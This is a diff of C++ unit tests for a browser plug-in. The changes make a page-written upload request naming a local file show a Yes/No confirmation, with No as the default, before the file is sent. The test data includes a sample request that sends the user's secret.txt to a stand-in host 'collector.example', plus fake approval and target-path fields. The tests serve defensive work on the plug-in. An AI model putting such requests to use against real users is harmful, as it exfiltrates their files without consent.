@@ -35,18 +35,59 @@ TEST_F(PageTrust, ARichDownloadPageIsSubmittedWithoutAnyDialog)
               Lines(OnlySubmission()));
 }
 
-TEST_F(PageTrust, EveryKeyOfARichRequestFileReachesTheClientWithoutADialog)
+const char* const kSecretUploadRequest =
+    "vnxclient: NAME=\"secret.txt\" SERVERNAME=collector.example TYPE=RICH UPLOAD=TRUE "
+    "FILE=\"C:\\Users\\me\\secret.txt\" RECIPIENTS=\"mallory:eve\" CHECKSUM=0 SERVERPORT=2 "
+    "HTTPSERVERPORT=3 SIZE=4 DEBUG_APPROVED=YES TargetPath=\"C:\\Windows\\x.exe\" Anything.else=x\n";
+const UINT kConfirmStyle = MB_YESNO | MB_ICONQUESTION | MB_DEFBUTTON2 | MB_SETFOREGROUND | MB_TOPMOST;
+
+TEST_F(PageTrust, ARichRequestFileWithoutALocalFileReachesTheClientWithoutADialog)
 {
-    // An upload request of the user's file, written by the page: the plug-in passes it on as it
-    // is, and only the client can refuse it.
     InstallClient();
-    ClickRequestFile(
-        "vnxclient: NAME=\"secret.txt\" SERVERNAME=collector.example TYPE=RICH UPLOAD=TRUE "
-        "FILE=\"C:\\Users\\me\\secret.txt\" RECIPIENTS=\"mallory:eve\" CHECKSUM=0 SERVERPORT=2 "
-        "HTTPSERVERPORT=3 SIZE=4 DEBUG_APPROVED=YES TargetPath=\"C:\\Windows\\x.exe\" Anything.else=x\n");
+    ClickRequestFile("vnxclient: NAME=pkg.bin SERVERNAME=srv1 TYPE=RICH UPLOAD=TRUE RECIPIENTS=mallory "
+                     "FILE=\"\" Anything.else=x\n");
 
     EXPECT_TRUE(ui.fileDialogs.empty());
     EXPECT_TRUE(ui.messageBoxes.empty());
+    EXPECT_EQ(kDone, LastStatus());
+    EXPECT_EQ((std::multiset<std::string>{"NAME=\"pkg.bin\"", "SERVERNAME=\"srv1\"", "TYPE=\"RICH\"",
+                                          "UPLOAD=\"TRUE\"", "RECIPIENTS=\"mallory\"", "Anything.else=\"x\"",
+                                          "DestBaseName=\"pkg.bin\"", "DestInitialDir=\"C:\\old\\\""}),
+              Lines(OnlySubmission()))
+        << "an empty FILE names nothing, and the submission file leaves empty values out";
+}
+
+TEST_F(PageTrust, ARichRequestFileNamingALocalFileIsSentOnlyAfterYes)
+{
+    // An upload request of the user's file, written by the page: nothing is handed over unless
+    // the user, shown the file and its recipients, answers Yes (No is the default button).
+    InstallClient();
+    ui.messageBoxAnswers = {IDNO};
+    ClickRequestFile(kSecretUploadRequest);
+
+    ASSERT_EQ(1u, ui.messageBoxes.size());
+    EXPECT_EQ(nullptr, ui.messageBoxes[0].owner);
+    EXPECT_EQ("This page asks to send your file \nC:\\Users\\me\\secret.txt \nto: mallory:eve \n"
+              "Do you want to send it?",
+              ui.messageBoxes[0].text);
+    EXPECT_EQ("Tolvane Message ", ui.messageBoxes[0].caption);
+    EXPECT_EQ(kConfirmStyle, ui.messageBoxes[0].style);
+    EXPECT_TRUE(ui.fileDialogs.empty());
+    EXPECT_EQ(kCancelled, LastStatus());
+    EXPECT_TRUE(Submissions().empty());
+    EXPECT_EQ("<absent>", ReadUserRegistryText(kSignalKey, "Value"));
+}
+
+TEST_F(PageTrust, EveryKeyOfARichRequestFileReachesTheClientOnceItsFileIsConfirmed)
+{
+    // Confirmed, the request is passed on as it is, and only the client can refuse it.
+    InstallClient();
+    ui.messageBoxAnswers = {IDYES};
+    ClickRequestFile(kSecretUploadRequest);
+
+    EXPECT_TRUE(ui.fileDialogs.empty());
+    ASSERT_EQ(1u, ui.messageBoxes.size()) << "only the confirmation";
+    EXPECT_EQ(kConfirmStyle, ui.messageBoxes[0].style);
     EXPECT_EQ(kDone, LastStatus());
     EXPECT_EQ((std::multiset<std::string>{
                   "NAME=\"secret.txt\"", "SERVERNAME=\"collector.example\"", "TYPE=\"RICH\"", "UPLOAD=\"TRUE\"",
@@ -92,17 +133,62 @@ TEST_F(PageTrust, AttributesCannotApproveOrTargetADownload)
     EXPECT_TRUE(Submissions().empty());
 }
 
-TEST_F(PageTrust, AnUploadPageNamingAFileSubmitsItWithOneClick)
+TEST_F(PageTrust, APlainRequestFileNamingALocalFileAsksBeforeTheSaveAsDialog)
+{
+    InstallClient();
+    ui.messageBoxAnswers = {IDNO};
+    ClickRequestFile("vnxclient: NAME=pkg.bin SERVERNAME=srv1 FILE=C:\\secret.txt\n");
+    ASSERT_EQ(1u, ui.messageBoxes.size());
+    EXPECT_EQ("This page asks to send your file \nC:\\secret.txt \nto:  \nDo you want to send it?",
+              ui.messageBoxes[0].text)
+        << "no RECIPIENTS: the box says so";
+    EXPECT_TRUE(ui.fileDialogs.empty()) << "No ends the click before the Save-As dialog";
+    EXPECT_EQ(kCancelled, LastStatus());
+
+    table.destroy(&npp, nullptr);
+    DestroyWindow(window);
+    window = nullptr;
+    ui.messageBoxes.clear();
+    ui.messageBoxAnswers = {IDYES};
+    ui.fileDialogAnswers = {std::string("C:\\mine\\pkg.bin")};
+    ClickRequestFile("vnxclient: NAME=pkg.bin SERVERNAME=srv1 FILE=C:\\secret.txt\n");
+    EXPECT_EQ(1u, ui.messageBoxes.size());
+    ASSERT_EQ(1u, ui.fileDialogs.size());
+    EXPECT_TRUE(ui.fileDialogs[0].save);
+    EXPECT_EQ(kDone, LastStatus());
+    const auto lines = Lines(OnlySubmission());
+    EXPECT_EQ(1u, lines.count("FILE=\"C:\\secret.txt\""));
+    EXPECT_EQ(1u, lines.count("TargetPath=\"C:\\mine\\pkg.bin\""));
+}
+
+TEST_F(PageTrust, AnUploadPageNamingAFileSubmitsItOnlyAfterYes)
 {
     InstallClient();
     const std::string secret = requestDir.path() + "-secret.txt";
     WriteWholeFile(secret, "the user's data");
+    ui.messageBoxAnswers = {IDNO};
+    ClickPage({{"upload", "true"}, {"file", secret}, {"RECIPIENTS", "mallory"},
+               {"servername", "collector.example"}, {"contenttype", "RICH"}});
+    ASSERT_EQ(1u, ui.messageBoxes.size());
+    EXPECT_EQ("This page asks to send your file \n" + secret + " \nto: mallory \nDo you want to send it?",
+              ui.messageBoxes[0].text);
+    EXPECT_EQ("Tolvane Message ", ui.messageBoxes[0].caption);
+    EXPECT_EQ(kConfirmStyle, ui.messageBoxes[0].style);
+    EXPECT_EQ(kCancelled, LastStatus());
+    EXPECT_TRUE(Submissions().empty());
+    EXPECT_EQ("<absent>", ReadUserRegistryText(kSignalKey, "Value"));
+
+    table.destroy(&npp, nullptr);
+    DestroyWindow(window);
+    window = nullptr;
+    ui.messageBoxes.clear();
+    ui.messageBoxAnswers = {IDYES};
     ClickPage({{"upload", "true"}, {"file", secret}, {"RECIPIENTS", "mallory"},
                {"servername", "collector.example"}, {"contenttype", "RICH"}});
     DeleteFileA(secret.c_str());
 
     EXPECT_TRUE(ui.fileDialogs.empty());
-    EXPECT_TRUE(ui.messageBoxes.empty());
+    EXPECT_EQ(1u, ui.messageBoxes.size()) << "only the confirmation";
     EXPECT_EQ(kDone, LastStatus());
     EXPECT_EQ((std::multiset<std::string>{"NAME=\"" + secret.substr(secret.rfind('\\') + 1) + "\"",
                                           "CHECKSUM=\"0\"", "RECIPIENTS=\"mallory\"",
